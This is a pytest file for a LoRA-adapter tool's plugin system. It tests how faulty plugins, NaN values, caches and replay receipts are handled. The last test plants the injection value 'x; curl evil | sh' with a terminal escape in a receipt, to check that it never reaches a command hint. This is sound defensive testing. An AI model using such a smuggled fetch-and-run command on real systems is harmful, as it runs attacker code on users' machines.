"""Plugins at work: each fault is told under the plugin's name, and what is not its own goes on."""

from __future__ import annotations

import json
import math
import sys
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from builders import MODULES, factors, write_adapter

from lora_lab import LoraLabError, Report, Session
from lora_lab.domain.adapter import Adapter
from lora_lab.domain.report import Column, Scalars, Table
from lora_lab.errors import PluginError
from lora_lab.extension.contracts import (
    AnalysisContext,
    Combination,
    Exporter,
    Factors,
    MergeContext,
    Need,
    ReadOptions,
    Recognition,
)
from lora_lab.extension.registry import PluginRecord, PluginState


class Probe:
    """An analysis, an exporter and a format that do what a test asks for."""

    id, title, summary, reference, suffix = "probe", "Probe", "", "", ".probe"
    parameters, subjects, takes_models, base = (), (1, 1), False, Need.NO

    def __init__(self, act: Any) -> None:
        self.act = act

    def run(self, context: AnalysisContext) -> Report:
        return self.act(context)  # type: ignore[no-any-return]

    def export(self, report: Report) -> bytes:
        return self.act(report)  # type: ignore[no-any-return]

    def recognise(self, path: Path) -> Recognition:
        return self.act(path)  # type: ignore[no-any-return]

    def read(self, path: Path, options: ReadOptions) -> Adapter:
        return self.act(path, options)  # type: ignore[no-any-return]


def session_with(shelf: str, probe: Any) -> Session:
    """A session with one plugin from outside on one shelf."""
    session = Session(plugins=False, cache=False)
    session.registry.plugins.append(PluginRecord("outsider", "outsider 1.0"))
    getattr(session.registry, shelf)["probe"] = probe
    session.registry.owners[shelf, "probe"] = "outsider"
    return session


def of_rows(*rows: dict[str, Any]) -> Report:
    columns = (Column("module", "Module"), Column("x", "x"))
    return Report("probe", "Probe", (Table("modules", "Modules", columns, rows),))


def leave(*_: object) -> None:
    sys.exit(0)


def stumble(*_: object) -> None:
    raise RuntimeError("boom")


@pytest.fixture
def adapter(tmp_path: Path) -> str:
    return str(write_adapter(tmp_path / "adapter"))


@pytest.mark.parametrize(
    ("act", "fragment"),
    [
        (stumble, "failed: RuntimeError: boom"),
        (leave, "failed: SystemExit: 0"),
        (lambda context: None, "returned 'NoneType', expected a Report"),
        (lambda context: of_rows({"module": "a", "x": np.float32(1)}), "type 'float32' in 'modules.x'"),
        (lambda context: of_rows({"module": "a", "x": [[object()]]}), "type 'object' in 'modules.x'"),
        (lambda context: of_rows({"module": "a", "x": {1: 2}}), "type 'dict' in 'modules.x'"),
    ],
)
def test_an_analysis_that_breaks_its_contract(act: Any, fragment: str, adapter: str) -> None:
    """One sentence that names analysis and plugin, never the plugin's own way of ending."""
    with pytest.raises(PluginError, match="'probe' of the plugin 'outsider'") as caught:
        session_with("analyses", Probe(act)).analyze("probe", [adapter])
    assert fragment in caught.value.message
    assert caught.value.hint


def test_an_analysis_may_refuse_its_input(adapter: str) -> None:
    """Our own errors pass as they are."""

    def refuse(context: AnalysisContext) -> Report:
        raise LoraLabError("This adapter is too small.")

    with pytest.raises(LoraLabError, match="too small") as caught:
        session_with("analyses", Probe(refuse)).analyze("probe", [adapter])
    assert not isinstance(caught.value, PluginError)


def test_numbers_that_json_lacks_become_undefined(adapter: str) -> None:
    """NaN and infinity are None, counted by place; everything else stays to the last digit."""
    nan, row = float("nan"), {"module": "a", "x": [0.1, float("inf")]}
    values = {"whole": 3, "part": np.float64(0.1), "deep": {"a": [nan, None, True]}}
    report = of_rows(row, {"module": "b", "x": [nan, 1 / 3]})
    report = replace(report, scalars=(Scalars("", "", (), values),))
    found = session_with("analyses", Probe(lambda context: report)).analyze("probe", [adapter])
    document = found.to_json()
    assert [row["x"] for row in document["modules"]] == [[0.1, None], [None, 1 / 3]]
    assert (document["whole"], document["part"], document["deep"]) == (3, 0.1, {"a": [None, None, True]})
    assert [(finding.code, finding.message.partition(" returned ")[2]) for finding in found.findings] == [
        ("undefined_number", "NaN or infinity 2 times in 'modules.x': undefined there."),
        ("undefined_number", "NaN or infinity 1 times in 'totals.deep': undefined there."),
    ]
    json.dumps(document, allow_nan=False)
    assert row["x"] == [0.1, float("inf")]  # the plugin's own lists are left alone


def test_what_an_analysis_does_to_its_parameters_stays_with_it(adapter: str) -> None:
    """The report carries the parameters that were asked for."""

    def scribble(context: AnalysisContext) -> Report:
        context.parameters["forged"] = 1  # type: ignore[index]
        return of_rows({"module": "a", "x": 1.0})

    assert "forged" not in session_with("analyses", Probe(scribble)).analyze("probe", [adapter]).parameters


@pytest.mark.parametrize(
    ("act", "fragment"),
    [(stumble, "RuntimeError: boom"), (leave, "SystemExit: 0"), (lambda report: "text", "'str', expected bytes")],
)
def test_an_exporter_that_breaks_its_contract(act: Any, fragment: str) -> None:
    """Named with its plugin."""
    probe: Exporter = Probe(act)
    with pytest.raises(PluginError, match="'probe' of the plugin 'outsider'") as caught:
        session_with("exporters", probe).export(of_rows(), "probe")
    assert fragment in caught.value.message


@pytest.mark.parametrize("act", [stumble, leave, lambda path: "readable"])
def test_a_format_whose_look_fails_stops_no_other(act: Any, adapter: str) -> None:
    """The built-in format reads its own, with a warning; where nothing reads it, the hint names the plugin."""
    session = session_with("formats", Probe(act))
    assert [finding.code for finding in session.adapter(adapter).findings] == ["plugin_failed"]
    (entry,) = session.scan(adapter)
    assert entry.error is None
    (Path(adapter) / "adapter_config.json").write_text("{")
    with pytest.raises(LoraLabError) as caught:
        session.adapter(adapter)
    assert not isinstance(caught.value, PluginError)
    assert "'probe' of the plugin 'outsider'" in caught.value.hint


def reading(result: Any) -> Probe:
    """A format that takes every file called ``mine.safetensors`` and then does what it is told."""

    def act(path: Path, options: ReadOptions | None = None) -> Any:
        if options is None:
            return Recognition.READABLE if path.name == "mine.safetensors" else Recognition.NO
        return result(path)

    return Probe(act)


@pytest.mark.parametrize("result", [stumble, leave, lambda path: 3])
def test_a_format_that_cannot_read_is_one_broken_entry(result: Any, tmp_path: Path) -> None:
    """The list has the reason, and the adapters beside it."""
    write_adapter(tmp_path / "good")
    (tmp_path / "more").mkdir()
    (tmp_path / "more" / "mine.safetensors").write_bytes(b"anything")
    found = {entry.name: entry.error for entry in session_with("formats", reading(result)).scan(str(tmp_path))}
    assert found["good"] is None
    assert "'probe' of the plugin 'outsider'" in (found["more/mine.safetensors"] or "")


def test_whatever_an_entry_runs_into_the_others_are_listed(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Even a fault of our own."""
    write_adapter(tmp_path / "a")
    write_adapter(tmp_path / "b")
    original = Session.adapter

    def sometimes(self: Session, locator: str) -> Adapter:
        if locator.endswith("a"):
            raise KeyError("nobody\x1b foresaw")
        return original(self, locator)

    monkeypatch.setattr(Session, "adapter", sometimes)
    found = {entry.name: entry.error for entry in Session().scan(str(tmp_path))}
    assert found["b"] is None
    assert "KeyError" in (found["a"] or "")
    assert "\x1b" not in (found["a"] or "")


@pytest.fixture
def edited(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
    """An installed plugin that its author is about to change."""
    from lora_lab.session.results import code_stamp

    package = tmp_path / "site" / "edited_plugin"
    package.mkdir(parents=True)
    (package / "__init__.py").write_text("")
    monkeypatch.syspath_prepend(str(package.parent))
    __import__("edited_plugin")
    yield package
    del sys.modules["edited_plugin"]
    code_stamp.cache_clear()


def test_an_edited_plugin_is_another_one(edited: Path) -> None:
    """What its analysis once said is no longer remembered, whichever of its files has changed."""
    from lora_lab.session.results import code_stamp

    def stamp() -> str:
        code_stamp.cache_clear()
        return code_stamp("edited_plugin.analysis")

    first = stamp()
    assert first
    assert stamp() == first
    (edited / "deep").mkdir()
    (edited / "deep" / "formula.py").write_text("x = 1")
    second = stamp()
    (edited / "deep" / "formula.py").write_text("x = 12")
    assert len({first, second, stamp()}) == 3
    assert code_stamp("a_module_that_nobody_has") == ""


def test_the_stamp_decides_what_is_remembered(adapter: str, monkeypatch: pytest.MonkeyPatch) -> None:
    """The same files and the same settings under another code are computed again."""
    from lora_lab.formats import factors as room
    from lora_lab.session import looking as session_room

    Session().spectrum(adapter)
    reads: list[int] = []
    original = room.FactorReader.factors_of
    monkeypatch.setattr(room.FactorReader, "factors_of", lambda self, deltas: reads.append(1) or original(self, deltas))
    Session().spectrum(adapter)
    assert reads == []
    monkeypatch.setattr(session_room, "code_stamp", lambda module: "edited")
    Session().spectrum(adapter)
    assert reads == [1]


@pytest.mark.parametrize("spoil", [lambda value: [1], lambda value: 3, lambda value: {name: {} for name in value}])
def test_a_memory_of_another_shape_is_none(tmp_path: Path, spoil: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    """A listing's cache that is JSON, but not ours, is read anew."""
    import os

    write_adapter(tmp_path / "a")
    first = list(Session().scan(str(tmp_path)))
    (kept,) = (Path(os.environ["LORA_LAB_CACHE_DIR"]) / "libraries").glob("*.json")
    document = json.loads(kept.read_text())
    kept.write_text(json.dumps({**document, "value": spoil(document["value"])}))
    assert list(Session().scan(str(tmp_path))) == first


@pytest.mark.parametrize("alpha", [float("nan"), float("inf")])
def test_alpha_is_finite(alpha: float) -> None:
    """It scales every number."""
    with pytest.raises(LoraLabError, match="expected a finite number"):
        Session(alpha=alpha)


@pytest.mark.parametrize("value", [float("nan"), float("-inf")])
@pytest.mark.parametrize("factor", ["lora_A", "lora_B"])
def test_inspect_sees_numbers_that_are_none(factor: str, value: float, tmp_path: Path) -> None:
    """The module and the factor are named, without arithmetic."""
    tensors = factors()
    module = next(iter(MODULES))
    tensors[f"base_model.model.{module}.{factor}.weight"][1, 2] = value
    (finding,) = Session().inspect(str(write_adapter(tmp_path / "a", tensors))).findings
    assert (finding.code, finding.module) == ("not_finite", module)
    assert factor in finding.message


class Method:
    """A method that does what a test asks for."""

    id, title, summary, reference, parameters, is_low_rank = "probe", "Probe", "", "", (), True

    def __init__(self, act: Any) -> None:
        self.act = act

    def combine(self, factors: list[Factors], strengths: list[float], context: MergeContext) -> Combination:
        return self.act(factors, strengths, context)  # type: ignore[no-any-return]


def first(factors: list[Factors], strengths: list[float], context: MergeContext) -> Combination:
    """The first update as it is."""
    norm = float((factors[0].scaling * factors[0].lora_B.double() @ factors[0].lora_A.double()).norm())
    return Combination(factors[0], norm)


def with_method(act: Any, version: str = "1.0") -> Session:
    session = session_with("methods", Method(act))
    session.registry.plugins[-1].distribution, session.registry.plugins[-1].version = "outsider", version
    return session


@pytest.mark.parametrize(
    ("change", "told"),
    [
        (lambda found: None, "returned 'NoneType', expected a Combination"),
        (lambda found: replace(found, norm=math.nan), "returned the norm 'nan'"),
        (lambda found: replace(found, error=-1.0), "returned the error '-1.0'"),
        (lambda found: replace(found, factors=turned(found.factors)), "expected \\(24, r\\) and \\(r, 16\\)"),
        (
            lambda found: replace(found, factors=replace(found.factors, is_transposed=True)),
            "returned is_transposed True, expected False",
        ),
        (lambda found: 1 / 0, "failed: ZeroDivisionError"),
    ],
)
def test_what_a_method_returns_is_factors_of_the_module(tmp_path: Path, change: Any, told: str) -> None:
    adapter = str(write_adapter(tmp_path / "a"))
    session = with_method(lambda *given: change(first(*given)))
    with pytest.raises(PluginError, match=f"method 'probe' of the plugin 'outsider' .*{told}"):
        session.combine([adapter], method="probe", output=tmp_path / "out")
    assert sorted(path.name for path in tmp_path.iterdir()) == ["a"]


def turned(factors: Factors) -> Factors:
    return replace(factors, lora_A=factors.lora_B.T, lora_B=factors.lora_A.T)


def test_a_receipt_names_the_plugin_and_a_replay_asks_for_it(tmp_path: Path) -> None:
    adapter, out = str(write_adapter(tmp_path / "a")), tmp_path / "out"
    with_method(first).combine([adapter], method="probe", output=out)
    assert json.loads((out / "lora_lab_receipt.json").read_text())["plugins"] == {"outsider": "1.0"}
    assert with_method(first).replay(out, output=tmp_path / "again").verdict is True
    newer = with_method(first, "1.1").replay(out, output=tmp_path / "newer")
    assert [finding.code for finding in newer.findings] == ["other_versions"]
    assert "outsider '1.0' then, 1.1 now" in newer.findings[0].message
    with pytest.raises(PluginError, match=r"the plugin 'outsider' 1\.0, which is not installed") as caught:
        Session(cache=False, plugins=False).replay(out, output=tmp_path / "without")
    assert "pip install outsider" in caught.value.hint
    disabled = with_method(first)
    disabled.registry.plugins[-1].state = PluginState.DISABLED
    with pytest.raises(PluginError, match="is installed but disabled"):
        disabled.replay(out, output=tmp_path / "without")
    assert not (tmp_path / "without").exists()


def test_a_receipt_cannot_put_words_into_a_command(tmp_path: Path) -> None:
    adapter, out = str(write_adapter(tmp_path / "a")), tmp_path / "out"
    with_method(first).combine([adapter], method="probe", output=out)
    document = json.loads((out / "lora_lab_receipt.json").read_text())
    document["plugins"] = {"x; curl evil | sh\x1b[2J": "1"}
    (out / "lora_lab_receipt.json").write_text(json.dumps(document))
    with pytest.raises(PluginError) as caught:
        Session(cache=False, plugins=False).replay(out, output=tmp_path / "again")
    assert caught.value.hint == ""
    assert "\x1b" not in caught.value.message
